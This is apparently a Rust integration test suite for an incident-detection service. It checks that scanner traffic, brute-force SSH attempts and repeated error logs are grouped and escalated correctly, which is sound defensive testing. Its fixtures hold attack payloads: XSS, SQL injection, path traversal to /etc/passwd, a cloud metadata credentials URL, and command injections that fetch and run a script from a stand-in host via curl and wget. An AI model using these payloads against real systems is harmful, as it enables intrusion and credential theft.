//! Not one incident per log line.

use foghorn_domain::clock::SignedDuration;
use foghorn_testkit::{App, event};
use serde_json::{Value, json};

#[tokio::test]
async fn a_thousand_timeouts_that_differ_in_numbers_are_one_incident_told_once() {
    let mut app = App::new();
    let line = |n: u64| {
        format!(
            "2026-01-02 03:{:02}:{:02} ERROR [pool-{}] Database connection timeout after {}ms for request {:08x}-{:04x}",
            n % 60,
            n * 7 % 60,
            n % 9,
            30_000 + n * 13,
            n * 2_654_435_761 % 4_294_967_296,
            n % 65_536
        )
    };
    for chunk in (0..1000).collect::<Vec<u64>>().chunks(100) {
        app.send_all(chunk.iter().map(|n| event("orders", "log", &line(*n))).collect()).await;
        app.settle().await;
    }
    let incidents = app.incidents().await;
    let incident = App::only(&incidents);
    assert_eq!((&incident["kind"], &incident["event_count"]), (&json!("db_timeout"), &json!(1000)));
    assert_eq!(app.tellings().await.len(), 1);
    let events = app.get("/api/v1/events?incident_id=1&count=exact").await.json();
    assert_eq!(events["total"], 1000);
}

#[tokio::test]
async fn three_hundred_clean_lines_open_nothing() {
    let mut app = App::new();
    let verbs = ["served", "cached", "rendered", "queued", "flushed", "rotated"];
    let things = ["invoice", "session", "thumbnail", "report", "basket"];
    let lines: Vec<Value> = (0..300)
        .map(|n: usize| {
            let (verb, thing) = (verbs[n % verbs.len()], things[n / 7 % things.len()]);
            event(
                "web",
                "log",
                &format!(
                    "2026-01-02T03:04:05Z INFO worker-{} {verb} {thing} {} in {} ms, 0 errors",
                    n % 8,
                    n * 31,
                    n % 90
                ),
            )
        })
        .collect();
    app.send_all(lines).await;
    app.settle().await;
    assert_eq!(app.incidents().await, Vec::<Value>::new());
}

#[tokio::test]
async fn a_scanner_is_one_campaign() {
    let mut app = App::new();
    let payloads = ["<script>alert(1)</script>", "1' OR '1'='1", "../../../../etc/passwd", "; cat /etc/passwd"];
    let requests: Vec<Value> = (0..400)
        .map(|n| {
            let mut request =
                event("shop", "http_request", &format!("GET /page{}?q={} HTTP/1.1", n % 30, payloads[n % 4]));
            request["metadata"] = json!({ "client_ip": "203.0.113.9" });
            request
        })
        .collect();
    app.send_all(requests).await;
    app.settle().await;
    let incidents = app.incidents().await;
    let incident = App::only(&incidents);
    assert_eq!(incident["event_count"], 400);
    assert_eq!(app.tellings().await.len(), 1);
    let labels = incident["labels"].as_array().unwrap();
    assert!(["xss", "sqli"].iter().all(|kind| labels.contains(&json!(kind))), "{labels:?}");
}

/// What a scanner tries, one after the other.
const TRIED: [&str; 10] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "1' OR '1'='1' -- ",
    "7 UNION SELECT username, password FROM users -- ",
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fwindows%2fwin.ini",
    "; cat /etc/passwd",
    "$(curl http://drop.example.net/x.sh | sh)",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "{{7*7}}${7*7}<%= 7*7 %>",
];

fn tried(n: usize) -> Value {
    let method = ["GET", "POST", "HEAD"][n % 3];
    let text = format!("{method} /shop/{}/view?item={} HTTP/1.1", n * 7 % 30, TRIED[n * 3 % TRIED.len()]);
    event("shop", "http_request", &text)
}

#[tokio::test]
async fn five_thousand_requests_of_a_scanner_are_two_incidents_at_most_and_page_nobody() {
    let client = |n: usize| {
        [json!({ "client_ip": "203.0.113.9" }), json!({}), json!({ "client_ip": format!("198.51.100.{}", n % 50) })]
    };
    for of_whom in 0..3 {
        let mut app = App::new();
        for chunk in (0..5_000).collect::<Vec<usize>>().chunks(1_000) {
            let requests = chunk.iter().map(|n| {
                let mut request = tried(*n);
                request["metadata"] = client(*n)[of_whom].clone();
                request
            });
            app.send_all(requests.collect()).await;
            app.settle().await;
            app.advance(SignedDuration::from_secs(40));
        }
        let incidents = app.incidents().await;
        assert!((1..=2).contains(&incidents.len()), "{of_whom}: {incidents:#?}");
        assert!(incidents.iter().all(|incident| incident["urgency"] == "notify"), "{of_whom}: {incidents:#?}");
        assert!(app.tellings().await.len() <= 2, "{of_whom}");
        let found: u64 = incidents.iter().map(|incident| incident["event_count"].as_u64().unwrap()).sum();
        assert!(found > 4_000, "{of_whom}: only {found} requests were seen for what they are");
    }
}

#[tokio::test]
async fn a_campaign_is_told_again_as_a_page_once_something_says_that_it_got_through() {
    let mut app = App::new();
    app.send_all((0..20).map(tried).collect()).await;
    app.settle().await;
    let told = |incident: &Value| (incident["severity"].clone(), incident["urgency"].clone());
    let (severity, urgency) = told(App::only(&app.incidents().await));
    assert!(severity != "critical" && urgency == "notify");
    let mut leaked = event("shop", "http_request", "GET /shop/1/view?file=../../../../etc/passwd HTTP/1.1");
    leaked["metadata"] = json!({ "status": 200, "response_body": "root:x:0:0:root:/root:/bin/bash" });
    app.send(leaked).await;
    app.settle().await;
    let incidents = app.incidents().await;
    let incident = App::only(&incidents);
    assert_eq!(told(incident), (json!("critical"), json!("page")));
    assert!(incident["labels"].as_array().unwrap().contains(&json!("attack_succeeded")));
    let reasons: Vec<String> = app.tellings().await.into_iter().map(|(_, reason, _)| reason).collect();
    assert_eq!(reasons, ["opened", "severity_raised"]);
    let seen = app.incident(1).await;
    let rules: Vec<&Value> = seen["evidence"].as_array().unwrap().iter().map(|evidence| &evidence["rule"]).collect();
    assert!(rules.contains(&&json!("attack.succeeded.passwd")), "{rules:?}");
}

#[tokio::test]
async fn a_call_to_a_host_that_only_the_attack_has_named_says_that_it_got_through() {
    let mut app = App::new();
    app.send(event("shop", "http_request", "GET /ping?host=;wget http://drop.example.net/x.sh -O- | sh HTTP/1.1"))
        .await;
    app.send(event("shop", "log", "INFO connecting to payments.example.org:443")).await;
    app.settle().await;
    assert_eq!(App::only(&app.incidents().await)["urgency"], "notify");
    app.send(event("shop", "log", "INFO outbound connection to drop.example.net:80 opened by pid 4711")).await;
    app.settle().await;
    let incidents = app.incidents().await;
    assert_eq!(App::only(&incidents)["urgency"], "page");
    assert_eq!(App::only(&incidents)["event_count"], 2);
}

#[tokio::test]
async fn counts_of_incidents_add_up_to_the_events_that_belong_to_one() {
    let mut app = App::new();
    for n in 0..60 {
        let text = match n % 3 {
            0 => format!("ERROR query timeout after {n} ms on database orders"),
            1 => format!("ERROR deadlock detected in transaction {n}"),
            _ => format!("INFO request {n} done"),
        };
        app.send(event(["a", "b"][n % 2], "log", &text)).await;
        if n % 7 == 0 {
            app.settle().await;
        }
    }
    app.settle().await;
    let counted: u64 = app.incidents().await.iter().map(|incident| incident["event_count"].as_u64().unwrap()).sum();
    let events = app.get("/api/v1/events?limit=200").await.json();
    let belonging = events["items"].as_array().unwrap().iter().filter(|event| !event["incident_id"].is_null()).count();
    assert_eq!(counted, belonging as u64);
    assert_eq!(belonging, 40);
}

#[tokio::test]
async fn a_restart_in_the_middle_changes_no_fingerprint_and_no_count() {
    let lines: Vec<Value> = (0..200)
        .map(|n| {
            event(
                "ledger",
                "log",
                &format!("ERROR could not serialize access for account {} at step {}", n * 37, n % 5),
            )
        })
        .collect();
    let mut straight = App::new();
    straight.send_all(lines.clone()).await;
    straight.settle().await;
    let mut interrupted = App::new();
    for chunk in lines.chunks(30) {
        interrupted.send_all(chunk.to_vec()).await;
        interrupted.settle().await;
        interrupted = interrupted.restart().await;
    }
    interrupted.settle().await;
    let shape = |incidents: Vec<Value>| -> Vec<(Value, Value)> {
        incidents.iter().map(|incident| (incident["fingerprint"].clone(), incident["event_count"].clone())).collect()
    };
    assert_eq!(shape(straight.incidents().await), shape(interrupted.incidents().await));
    assert!(!straight.incidents().await.is_empty());
}

#[tokio::test]
async fn many_failed_log_ins_are_one_brute_force() {
    let mut app = App::new();
    let lines: Vec<Value> = (0..50)
        .map(|n| {
            event(
                "bastion",
                "log",
                &format!(
                    "Dec 10 06:55:{:02} LabSZ sshd[{}]: Failed password for root from 203.0.113.7 port {} ssh2",
                    n % 60,
                    24_000 + n,
                    30_000 + n
                ),
            )
        })
        .collect();
    app.send_all(lines).await;
    app.settle().await;
    let incidents = app.incidents().await;
    let brute: Vec<_> = incidents.iter().filter(|incident| incident["kind"] == "brute_force").collect();
    assert_eq!(brute.len(), 1, "{incidents:#?}");
    assert!(brute[0]["summary"].as_str().unwrap().contains("203.0.113.7"), "{}", brute[0]["summary"]);
}
